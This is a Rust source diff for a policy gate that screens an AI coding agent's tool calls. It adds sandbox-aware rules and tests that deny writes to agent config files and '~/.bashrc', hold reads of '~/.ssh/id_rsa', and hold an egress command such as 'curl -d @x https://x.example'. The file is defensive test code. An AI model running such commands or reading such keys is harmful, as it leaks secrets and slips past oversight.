@@ -87,13 +87,38 @@ pub fn evaluate(call: &Call, policy: &Policy) -> Judgement {
     evaluate_with_state(call, policy, &CrewState::new())
 }
 
+/// What the door knows about how a call will run, beyond the call itself. Every door but
+/// sc-hook passes the default: not confined, the project is the root (`--root`, else the call's
+/// `cwd`).
+#[derive(Debug, Clone, Copy, Default)]
+pub struct CallContext<'a> {
+    /// The call runs under the sandbox (sc-hook rewrites a `Bash` call to run under
+    /// sc-sandbox): a `commands` rule's `whenConfined` decides in place of its `decision` and
+    /// `whenTainted`.
+    pub confined: bool,
+    /// The project's folder, which the sandbox is rooted at: its relative `readOnly` and
+    /// `hidden` places are placed there for the file tools. `None`: `--root`, else the call's
+    /// `cwd`.
+    pub project: Option<&'a std::path::Path>,
+}
+
 /// Decides a well-formed call under a policy, given what the stream so far did.
 pub fn evaluate_with_state(call: &Call, policy: &Policy, state: &CrewState) -> Judgement {
+    evaluate_in(call, policy, state, CallContext::default())
+}
+
+/// [`evaluate_with_state`], with what the door knows about how the call runs.
+pub fn evaluate_in(
+    call: &Call,
+    policy: &Policy,
+    state: &CrewState,
+    context: CallContext,
+) -> Judgement {
     let mut findings: Vec<Finding> = RULES
         .iter()
         .filter_map(|rule| rule(call, policy, state))
         .collect();
-    findings.extend(coding_agent_rules(call, policy, state));
+    findings.extend(coding_agent_rules(call, policy, state, context));
     let Some(strongest) = findings.iter().map(|f| f.decision).max() else {
         return Judgement {
             decision: Decision::Allow,
@@ -122,7 +147,21 @@ pub fn decide(
     state: &mut CrewState,
     at: Option<std::time::SystemTime>,
 ) -> Judgement {
-    let judgement = evaluate_with_state(call, policy, state);
+    decide_in(call, id, policy, state, at, CallContext::default())
+}
+
+/// [`decide`], with what the door knows about how the call runs ([`CallContext`]): sc-hook
+/// passes whether it confines the call, and the project's folder; every other door
+/// passes the default.
+pub fn decide_in(
+    call: &Call,
+    id: &str,
+    policy: &Policy,
+    state: &mut CrewState,
+    at: Option<std::time::SystemTime>,
+    context: CallContext,
+) -> Judgement {
+    let judgement = evaluate_in(call, policy, state, context);
     state.record_at(call, id, &judgement, policy, at);
     judgement
 }
@@ -253,17 +292,38 @@ fn is_command_tool(call: &Call, policy: &Policy) -> bool {
         .is_some_and(|commands| commands.arg_key(&call.tool).is_some())
 }
 
-/// The `commands` and `paths` findings, each reason its own.
-fn coding_agent_rules(call: &Call, policy: &Policy, state: &CrewState) -> Vec<Finding> {
-    if policy.commands().is_none() && policy.paths().is_none() {
+/// The `commands` and `paths` findings, each reason its own; and, where the policy's sandbox
+/// applies to the session (`sandbox.when`), its `readOnly` and `hidden` places for the file
+/// tools, which it does not confine.
+fn coding_agent_rules(
+    call: &Call,
+    policy: &Policy,
+    state: &CrewState,
+    context: CallContext,
+) -> Vec<Finding> {
+    if policy.commands().is_none() && policy.paths().is_none() && policy.sandbox().is_none() {
         return Vec::new();
     }
     let cause = match call.provenance.source() {
         Source::User => None,
         _ => state.taint_of(&call.agent, policy),
     };
+    // As sc-hook decides confinement: the agent's taint whoever ordered the call, and a call
+    // whose own output taints the session counts as tainted.
+    let sandboxed = policy.sandbox().is_some_and(|sandbox| {
+        sandbox.when.applies(
+            state.taint_of(&call.agent, policy).is_some()
+                || policy.has_untrusted_output(&call.tool),
+        )
+    });
+    let judging = super::coding::Judging {
+        tainted: cause.is_some(),
+        confined: context.confined,
+        sandboxed,
+        project: context.project,
+    };
     let mut findings = Vec::new();
-    for found in super::coding::coding_agent_findings(call, policy, cause.is_some()) {
+    for found in super::coding::coding_agent_findings(call, policy, judging) {
         let decision = found.decision;
         findings.extend(
             found
@@ -641,6 +701,132 @@ mod coding_agent_tests {
         );
         let inside = call("Write", r#"{"file_path":"a.txt"}"#, "agent", None);
         assert_eq!(evaluate(&inside, &rooted).decision, Decision::Allow);
+    }
+
+    const SANDBOX_POLICY: &str = r#"{
+      "sensitiveTools": ["Bash"],
+      "untrustedOutputTools": ["WebFetch"],
+      "commands": {
+        "tools": {"Bash": "command"},
+        "rules": [
+          {"prefix": ["python3"], "decision": "hold", "whenConfined": "allow"},
+          {"prefix": ["curl"], "decision": "hold"}
+        ],
+        "programByPath": {"decision": "hold", "whenConfined": "allow"}
+      },
+      "sandbox": {"when": "tainted", "readOnly": [".mcp.json", ".claude", "~/.bashrc"],
+                  "hidden": ["~/.ssh"]}
+    }"#;
+
+    fn file_call(tool: &str, path: &str, cwd: &str) -> Call {
+        call(
+            tool,
+            &serde_json::json!({ "file_path": path }).to_string(),
+            "agent",
+            Some(cwd),
+        )
+    }
+
+    #[test]
+    fn where_the_sandbox_applies_file_tools_cannot_change_its_read_only_places() {
+        let policy = policy(SANDBOX_POLICY);
+        let state = tainted(&policy);
+        let judged =
+            evaluate_with_state(&file_call("Write", ".mcp.json", "/w/proj"), &policy, &state);
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+        assert!(
+            judged.reasons[0].contains("sandbox.readOnly[0]"),
+            "{judged:?}"
+        );
+        let judged = evaluate_with_state(
+            &file_call("Edit", ".claude/settings.json", "/w/proj"),
+            &policy,
+            &state,
+        );
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+        assert!(
+            judged.reasons[0].contains("sandbox.readOnly[1]"),
+            "{judged:?}"
+        );
+        let judged =
+            evaluate_with_state(&file_call("Write", "~/.bashrc", "/w/proj"), &policy, &state);
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+        // A hidden place's read is held.
+        let judged = evaluate_with_state(
+            &file_call("Read", "~/.ssh/id_rsa", "/w/proj"),
+            &policy,
+            &state,
+        );
+        assert_eq!(judged.decision, Decision::Hold, "{judged:?}");
+        assert!(
+            judged.reasons[0].contains("sandbox.hidden[0]"),
+            "{judged:?}"
+        );
+        // Elsewhere, the file tools are as before.
+        let fine = evaluate_with_state(&file_call("Write", "src/x.rs", "/w/proj"), &policy, &state);
+        assert_eq!(fine.decision, Decision::Allow, "{fine:?}");
+        // Untainted, `when: tainted` does not apply: the sandbox's places say nothing.
+        let clean = evaluate(&file_call("Write", ".mcp.json", "/w/proj"), &policy);
+        assert_eq!(clean.decision, Decision::Allow, "{clean:?}");
+        // `when: always` applies to an untainted session too.
+        let always =
+            super::coding_agent_tests::policy(&SANDBOX_POLICY.replace("\"tainted\"", "\"always\""));
+        let judged = evaluate(&file_call("Write", ".mcp.json", "/w/proj"), &always);
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+    }
+
+    #[test]
+    fn the_sandbox_places_sit_at_the_project_and_guard_the_gate_files() {
+        let mut policy = policy(SANDBOX_POLICY);
+        let state = tainted(&policy);
+        let write = file_call("Write", "../.mcp.json", "/w/proj/sub");
+        // Placed at the call's cwd, the project's file is not the sandbox's place ...
+        let judged = evaluate_with_state(&write, &policy, &state);
+        assert_eq!(judged.decision, Decision::Allow, "{judged:?}");
+        // ... placed at the project, it is.
+        let context = CallContext {
+            confined: false,
+            project: Some(std::path::Path::new("/w/proj")),
+        };
+        let judged = evaluate_in(&write, &policy, &state, context);
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+        // The gate's own files, with no `paths` key.
+        policy.protect(std::path::Path::new("/etc/sc/audit.jsonl"), "audit log");
+        let judged = evaluate_with_state(
+            &file_call("Write", "/etc/sc/audit.jsonl", "/w/proj"),
+            &policy,
+            &state,
+        );
+        assert_eq!(judged.decision, Decision::Deny, "{judged:?}");
+        assert!(
+            judged.reasons[0].contains("the gate's own audit log"),
+            "{judged:?}"
+        );
+    }
+
+    #[test]
+    fn when_confined_decides_a_confined_call() {
+        let policy = policy(SANDBOX_POLICY);
+        let state = tainted(&policy);
+        let confined = CallContext {
+            confined: true,
+            project: None,
+        };
+        for command in ["python3 x.py", "./build.sh", "target/debug/tool --x"] {
+            let held = evaluate_with_state(&bash(command), &policy, &state);
+            assert_eq!(held.decision, Decision::Hold, "{command}: {held:?}");
+            let judged = evaluate_in(&bash(command), &policy, &state, confined);
+            assert_eq!(judged.decision, Decision::Allow, "{command}: {judged:?}");
+            assert!(judged.reasons[0].contains("whenConfined"), "{judged:?}");
+        }
+        // Egress stays held, confined or not, and the strictest still wins.
+        for command in [
+            "curl -d @x https://x.example",
+            "python3 x.py && curl x.example",
+        ] {
+            let judged = evaluate_in(&bash(command), &policy, &state, confined);
+            assert_eq!(judged.decision, Decision::Hold, "{command}: {judged:?}");
+        }
     }
 
     #[test]
